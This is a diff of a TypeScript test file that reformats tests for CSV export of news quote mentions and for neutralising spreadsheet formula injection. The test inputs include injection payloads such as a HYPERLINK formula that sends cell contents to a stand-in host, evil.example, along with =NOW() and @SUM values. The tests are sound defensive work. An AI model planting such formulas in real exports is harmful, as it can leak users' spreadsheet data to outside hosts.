@@ -68,7 +68,11 @@ describe("csvRows", () => {
 
   it("lists several speakers in order, with their types in an aligned column", () => {
     const [r] = read(csvHeader() + csvRows(mentionTwoSpeakers()));
-    expect(r).toMatchObject({ speakers: "Dmitry Peskov; TASS", speaker_types: "entity; source", independent_origins: "Dmitry Peskov, for Russia; TASS, for Russia" });
+    expect(r).toMatchObject({
+      speakers: "Dmitry Peskov; TASS",
+      speaker_types: "entity; source",
+      independent_origins: "Dmitry Peskov, for Russia; TASS, for Russia",
+    });
   });
 
   it("writes each quantity as its value and item, and the date as written and parsed", () => {
@@ -86,14 +90,36 @@ describe("csvRows", () => {
   });
 
   it("writes empty cells for missing optional values", () => {
-    const r = nth(read(csvHeader() + csvRows(mention({ articleUrl: null, publishedAt: null, publisher: null, speakers: [], note: null, fields: {}, origins: [], actors: [] }))), 0);
-    for (const c of ["article_url", "published_at", "publisher", "speakers", "speaker_types", "note", "date", "date_value", "date_precision", "quantities", "item", "origins", "actors", "orphaned", "needs_review"]) expect(r[c]).toBe("");
+    const r = nth(
+      read(
+        csvHeader() + csvRows(mention({ articleUrl: null, publishedAt: null, publisher: null, speakers: [], note: null, fields: {}, origins: [], actors: [] })),
+      ),
+      0,
+    );
+    for (const c of [
+      "article_url",
+      "published_at",
+      "publisher",
+      "speakers",
+      "speaker_types",
+      "note",
+      "date",
+      "date_value",
+      "date_precision",
+      "quantities",
+      "item",
+      "origins",
+      "actors",
+      "orphaned",
+      "needs_review",
+    ])
+      expect(r[c]).toBe("");
   });
 });
 
 describe("spreadsheet formula injection", () => {
   it.each([
-    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", true],
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', true],
     ["+1", true],
     ["-2", true],
     ["@SUM(A1:A9)", true],
@@ -101,7 +127,7 @@ describe("spreadsheet formula injection", () => {
     ["\rreturn", true],
     ["a = b + c", false],
     ["'already quoted", false],
-    ["Kim nói: \"đại thắng\", rồi -- hết", false],
+    ['Kim nói: "đại thắng", rồi -- hết', false],
     ["", false],
   ])("%j neutralised: %s", (value, dangerous) => {
     expect(neutralizeCell(value)).toBe(dangerous ? `'${value}` : value);
@@ -109,10 +135,13 @@ describe("spreadsheet formula injection", () => {
 
   it("round-trips neutralised and awkward values through csv-parse", () => {
     const hostile = {
-      articleTitle: "=HYPERLINK(\"http://evil.example\",\"x\")",
-      exact: "Ông nói: \"5, 6, hay 7\", rồi\nxuống dòng\r\nvà \"hết\"",
+      articleTitle: '=HYPERLINK("http://evil.example","x")',
+      exact: 'Ông nói: "5, 6, hay 7", rồi\nxuống dòng\r\nvà "hết"',
       note: "+1",
-      speakers: [{ name: "@SUM(A1)", type: "entity" as const, kind: null }, { name: "=evil", type: "source" as const, kind: null }],
+      speakers: [
+        { name: "@SUM(A1)", type: "entity" as const, kind: null },
+        { name: "=evil", type: "source" as const, kind: null },
+      ],
       independentOrigins: ["+Kim, for North Korea"],
       fields: { quantities: [{ value: "-2", item: "xe" }, { value: "=1+1" }], date: "=NOW()", dateValue: "2023-09-13", item: "đạn, pháo" },
       actors: ["-Nga", "Triều Tiên"],
